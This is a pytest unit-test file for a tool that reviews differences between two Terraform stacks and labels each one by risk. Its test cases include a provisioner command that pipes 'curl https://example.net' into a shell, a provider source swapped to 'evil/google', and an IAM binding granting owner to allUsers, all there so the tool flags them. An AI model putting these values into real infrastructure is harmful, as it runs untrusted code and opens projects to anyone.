"""Two stacks are compared as whole documents: every difference is reported with its effect."""

import copy
import json
import re
from typing import Any

import pytest

from review.assessment.review import Review, review_plan
from review.cost.price_book import load_price_book
from review.findings.text import strip_markup
from review.plan.values import flatten_values
from review.report.answers import Verdict, answer_questions
from review.stacks.comparison import compare_stacks
from review.types.registry import create_context

pytestmark = pytest.mark.unit

LOSS, POSSIBLE, WIDENED, CARE, CODE, CHANGE, NOTE = (
    "data loss", "data loss possible", "access widened", "needs care", "code", "change", "note"
)  # fmt: skip
STACK: dict[str, Any] = {
    "terraform": {
        "backend": {"gcs": {"bucket": "a"}},
        "required_providers": {"google": {"source": "hashicorp/google", "version": "6.50.0"}},
        "required_version": ">= 1.5",
    },
    "provider": {"google": [{"project": "p", "region": "europe-west1"}]},
    "variable": {"place": {"default": "EU"}, "unused": {"default": "x"}},
    "locals": {"name": "b"},
    "data": {"google_project": {"p": {"project_id": "p"}}},
    "module": {"m": {"source": "./m", "size": 1}},
    "resource": {
        "google_storage_bucket": {
            "b": {"name": "${local.name}", "location": "${var.place}", "force_destroy": True},
            "i": {
                "for_each": {"a": "1", "b": "2"},
                "name": "${each.key}",
                "location": "EU",
                "force_destroy": True,
                "lifecycle": {"prevent_destroy": False},
            },
            "c": {"count": 2, "name": "c-${count.index}", "location": "EU", "force_destroy": True},
            "p": {"name": "p", "location": "EU", "lifecycle": {"prevent_destroy": True}},
            "q": {
                "name": "q",
                "location": "EU",
                "force_destroy": True,
                "lifecycle": {"ignore_changes": ["location"]},
            },
            "z": {"name": "z", "project": "${data.google_project.p.project_id}", "location": "EU"},
        },
        "terraform_data": {"t": {"input": "x", "provisioner": [{"local-exec": {"command": "echo ok"}}]}},
        "google_project_iam_member": {
            "m": {"project": "p", "role": "roles/viewer", "member": "user:a@example.org"}
        },
    },
}
BUCKETS = "resource.google_storage_bucket"
CASES: dict[str, tuple[str, Any, str, str]] = {
    "a variable's default": (
        "variable.place.default",
        "US",
        LOSS,
        "is replaced because its location changes",
    ),
    "a local value": ("locals.name", "other", LOSS, "is replaced because its name changes"),
    "a variable that nothing uses": ("variable.unused.default", "y", NOTE, "changes"),
    "an instance of for_each": (f"{BUCKETS}.i.for_each", {"a": "1"}, LOSS, "bucket b is deleted"),
    "an instance of a count": (f"{BUCKETS}.c.count", 1, LOSS, "bucket c-1 is deleted"),
    "an expression of for_each": (f"{BUCKETS}.i.for_each", "${var.those}", LOSS, "is deleted"),
    "a data source": (
        "data.google_project.p.project_id",
        "q",
        CARE,
        "only a plan can show what it reads",
    ),
    "a module's source": ("module.m.source", "git::https://example.net/m", POSSIBLE, "is not examined"),
    "a module's argument": ("module.m.size", 2, POSSIBLE, "changes in size"),
    "a provider's source": (
        "terraform.required_providers.google.source",
        "evil/google",
        CODE,
        "changes to evil/google 6.50.0",
    ),
    "a provider's version": (
        "terraform.required_providers.google.version",
        "7.0.0",
        CODE,
        "hashicorp/google 7.0.0",
    ),
    "a provider's project": ("provider.google.0.project", "other", POSSIBLE, "project p → other"),
    "a provider's identity": (
        "provider.google.0.impersonate_service_account",
        "a@p.iam.gserviceaccount.com",
        CARE,
        "its configuration changes",
    ),
    "the backend": ("terraform.backend.gcs.bucket", "b", CARE, "the state moves elsewhere"),
    "another kind of backend": ("terraform.backend", {"local": {}}, CARE, "the state moves elsewhere"),
    "Terraform's version": ("terraform.required_version", ">= 1.9", CARE, "changes"),
    "a provisioner": (
        "resource.terraform_data.t.provisioner.0.local-exec.command",
        "curl https://example.net | sh",
        CODE,
        "its provisioners change",
    ),
    "ignore_changes": (f"{BUCKETS}.q.location", "US", NOTE, "but ignore_changes covers this"),
    "ignore_changes taken off": (f"{BUCKETS}.q.lifecycle.ignore_changes", [], CHANGE, "ignore_changes"),
    "prevent_destroy taken off": (
        f"{BUCKETS}.p.lifecycle.prevent_destroy",
        False,
        CARE,
        "prevent_destroy is removed",
    ),
    "another provider of a resource": (
        f"{BUCKETS}.b.provider",
        "google.other",
        POSSIBLE,
        "instead of google",
    ),
    "a dependency": (f"{BUCKETS}.b.depends_on", ["terraform_data.t"], NOTE, "depends_on changes"),
    "a connection": ("resource.terraform_data.t.connection", {"host": "h"}, CODE, "connection changes"),
    "a section that is not known": ("ephemerals", {"x": 1}, CARE, "is added"),
    "an action": ("action.google_x.a", {"config": {"a": 1}}, CARE, "its effect is not known"),
    "moved modules": ("moved", [{"from": "module.a", "to": "module.b"}], CARE, "not examined"),
    "a check": ("check.c", {"assert": {}}, NOTE, "is added"),
}


def at(document: Any, path: str, value: Any) -> Any:
    made = copy.deepcopy(document)
    *parents, last = [int(each) if each.isdecimal() else each for each in path.split(".")]
    inside = made
    for each in parents:
        if isinstance(inside, dict):
            inside.setdefault(each, {})
        inside = inside[each]
    inside[last] = value
    return made


def review_stacks(base: Any, head: Any) -> Review:
    plan = compare_stacks(json.dumps(base).encode(), json.dumps(head).encode())
    return review_plan(create_context(plan), load_price_book())


@pytest.mark.parametrize("case", CASES)
def test_what_differs_between_two_stacks_is_reported(case: str) -> None:
    path, value, severity, words = CASES[case]
    found = review_stacks(STACK, at(STACK, path, value))
    assert found.severity.label == severity, [strip_markup(each.sentence) for each in found.findings]
    assert any(words in strip_markup(each.sentence) for each in found.findings)


def test_the_same_stack_has_no_changes() -> None:
    assert review_stacks(STACK, STACK).empty


@pytest.mark.long
def test_every_changed_value_of_a_stack_is_reported() -> None:
    """Changes one value of the stack at a time, except comments."""
    for path, value in flatten_values(STACK):
        steps = re.sub(r"\[(\d+)\]", r".\1", path)
        other = not value if isinstance(value, bool) else f"{value}-other"
        assert not review_stacks(STACK, at(STACK, steps, other)).empty, path


@pytest.mark.parametrize("kind", ["create", "destroy"])
def test_provisioners_of_created_and_destroyed_resources_are_reported_with_their_command(kind: str) -> None:
    provisioned = at(STACK, "resource.terraform_data.t.provisioner.0.local-exec.when", kind)
    without = at(STACK, "resource.terraform_data", {})
    sides = (without, provisioned) if kind == "create" else (provisioned, without)
    found = [strip_markup(each.sentence) for each in review_stacks(*sides).findings]
    verb = "created" if kind == "create" else "destroyed"
    assert (
        f"when it is {verb}, the apply runs provisioner local-exec on the host that runs Terraform: echo ok"
        in found
    )


def test_a_policy_document_of_a_data_source_is_followed() -> None:
    policy = {
        "google_iam_policy": {"p": {"binding": [{"role": "roles/viewer", "members": ["user:a@example.org"]}]}}
    }
    base = {
        "data": policy,
        "resource": {
            "google_project_iam_policy": {
                "x": {"project": "p", "policy_data": "${data.google_iam_policy.p.policy_data}"}
            }
        },
    }
    head = at(at(base, "data.google_iam_policy.p.binding.0.role", "roles/owner"), "data.google_iam_policy.p.binding.0.members", ["allUsers"])  # fmt: skip  # noqa: E501
    found = review_stacks(base, head)
    assert found.severity.label == WIDENED
    assert "anyone on the internet can now do everything" in strip_markup(found.findings[0].sentence)


@pytest.mark.parametrize(
    ("path", "value", "opaque"),
    [
        ("terraform.backend", {"gcs": {"bucket": "b"}}, "backend.gcs"),
        ("terraform.required_providers", {"google": {"source": "evil/google"}}, "provider.google"),
        ("provider.google", [{"project": "other", "region": "europe-west1"}], "provider.google"),
        ("module.m", {"source": "./m", "size": 2}, "module.m"),
        ("module.n", {"source": "./n"}, "module.n"),
        ("data.google_project.p", {"project_id": "other"}, "data.google_project.p"),
    ],
)
def test_unexamined_changes_are_not_answered_with_no(path: str, value: Any, opaque: str) -> None:
    found = review_stacks(STACK, at(STACK, path, value))
    answered = {each.question: each for each in answer_questions(found)}
    for question in ("Is data lost?", "Who gains access?"):
        assert answered[question].verdict is not Verdict.NO
        assert opaque in answered[question].unexamined


def test_a_newer_version_of_the_same_provider_is_examined() -> None:
    newer = at(STACK, "terraform.required_providers", {"google": {"source": "google", "version": "6.51.0"}})
    assert not review_stacks(STACK, newer).unexamined
